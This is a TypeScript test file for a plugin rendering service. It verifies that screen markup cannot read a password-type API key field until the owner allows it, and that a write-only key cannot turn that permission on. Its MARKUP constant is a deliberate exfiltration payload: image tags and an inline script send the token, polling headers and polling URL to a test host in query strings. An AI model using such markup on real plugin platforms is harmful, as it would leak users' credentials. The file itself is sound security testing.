import t from 'tap';
import { openDrawing, openWeb } from '../support/gateway/drawing-gateway.js';
import { answerJson } from '../support/sources/source-server.js';
import { waitFor } from '../support/wait-for.js';

const SECRET = 'hunter2';
const FIELDS = [{ keyname: 'token', field_type: 'password', name: 'API key' }];
/** Every way in which markup could get at a secret, sent to the host that is polled. */
const MARKUP = `<div class="layout"><img src="{{ place }}/field.png?{{ token | url_encode }}">
  <img src="{{ place }}/member.png?{{ trmnl.plugin_settings.custom_fields_values.token | url_encode }}">
  <img src="{{ place }}/headers.png?{{ trmnl.plugin_settings.polling_headers | url_encode }}">
  <img src="{{ place }}/address.png?{{ trmnl.plugin_settings.polling_url | url_encode }}">
  <script>new Image().src = '{{ place }}/script.png?' + encodeURIComponent({{ token | json }});</script></div>`;

t.test('markup gets a secret only after the owner allowed it, polling at once', async (t) => {
  const { browser, draw, drawn, api } = await openDrawing(t);
  const web = await openWeb(t);
  const sent: string[] = [];
  web.answers['/data?key=hunter2'] = (request, response) => {
    sent.push(String(request.headers.authorization));
    answerJson({ place: web.base })(request, response);
  };
  const id = await draw(MARKUP, {
    ...{ strategy: 'polling', polling_url: `${web.base}/data?key=${SECRET}`, custom_fields: FIELDS },
    ...{ polling_headers: 'authorization=Bearer {{ token }}&x-key=hunter2', fields: { token: SECRET } },
  });
  const pictures = (): string[] => web.asked.filter((path) => path.includes('.png'));
  t.ok(sent.includes(`Bearer ${SECRET}`), 'polling sends it');
  t.ok(pictures().length >= 5, 'the markup is rendered');
  t.notMatch(pictures().join('\n'), SECRET, 'and gets no secret');

  const page = await browser.get(`/plugins/${id}`);
  t.match(page.text, 'API key', 'the page names the field');
  t.match(page.text, `action="/plugins/${id}/secrets"`, 'and asks');
  const { show_secrets: before } = (await api('GET', `/api/plugin_settings/${id}`)).data;
  t.equal(before, null);
  /** Requests of screens that were rendered after a change, without those of renders that it found under way. */
  const afterwards = async (mark: string): Promise<string> => {
    const isThere = (path: string): boolean => path.startsWith(`/field.png?${mark}`);
    await waitFor('a screen', async () => (pictures().some(isThere) ? true : undefined));
    await drawn(id);
    web.asked.length = 0;
    await api('PATCH', `/api/plugin_settings/${id}`, { name: `After ${mark}` });
    await waitFor('another screen', async () => (pictures().some(isThere) ? true : undefined));
    return pictures().join('\n');
  };
  await browser.post(`/plugins/${id}/secrets`, { do: 'allow' });
  t.match(await afterwards(SECRET), `/field.png?${SECRET}`, 'once allowed, markup gets it');
  t.notMatch((await browser.get(`/plugins/${id}`)).text, `/plugins/${id}/secrets"`, 'the question is answered');
  await api('PATCH', `/api/plugin_settings/${id}`, { show_secrets: false });
  t.notMatch(await afterwards('%E2%80%A2'), SECRET, 'and can be taken back');
});

t.test('a key that may write cannot make markup show secrets', async (t) => {
  const { draw, writeApi } = await openDrawing(t);
  const id = await draw('<div class="layout">x</div>', {
    strategy: 'static',
    static_data: '{"a":1}',
    custom_fields: FIELDS,
    fields: { token: SECRET },
  });
  const api = await writeApi();
  await t.rejects(api('PATCH', `/api/plugin_settings/${id}`, { show_secrets: true }), { message: /403/ });
  const { show_secrets: after } = (await api('GET', `/api/plugin_settings/${id}`)).data;
  t.equal(after, null);
});
